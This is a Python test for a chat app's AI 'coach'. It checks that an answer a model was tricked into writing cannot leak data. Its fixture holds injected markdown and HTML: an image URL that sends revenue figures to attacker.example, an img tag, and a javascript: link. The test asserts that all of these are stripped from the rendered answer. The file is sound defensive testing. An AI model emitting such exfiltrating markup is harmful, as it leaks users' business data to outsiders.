"""Finding 10: a coach answer that a model was tricked into writing loads no outside image and its links open apart.

`![x](https://attacker.example/?revenue=...)` would be fetched by the browser as soon as it is shown, telling a
stranger the figures in its address; a link would open with the app's page as its opener.
"""
from nicegui import app
from nicegui.testing import User

from .helpers import sign_up_owner
from .test_chat import SLOW, ask, scripted

TRICKED = ['Revenue is $1,234.\n\n', '![chart](https://attacker.example/p.png?revenue=1234) ',
           '<img src="https://attacker.example/q.png"> ', 'See [the guide](https://attacker.example/guide) or ',
           '[this](javascript:alert(1)).\n\n', '```python\nx = 1\n```\n']


async def test_an_answer_loads_no_outside_image_and_its_links_open_safely(user: User):
    await sign_up_owner(user)
    app.state.shops.coach.answer = scripted(TRICKED)[0]
    await ask(user, 'How is revenue today?')
    await user.should_see(marker='chat-thumb-up', retries=SLOW)
    (answer,) = user.find(marker='chat-answer').elements
    html = answer.props['innerHTML']
    assert 'Revenue is $1,234.' in html
    assert '<img' not in html and 'attacker.example/p.png' not in html and 'javascript:' not in html
    assert '<a href="https://attacker.example/guide" target="_blank" rel="noopener noreferrer">the guide</a>' in html
    assert '<span class="n">x</span>' in html  # code is still highlighted
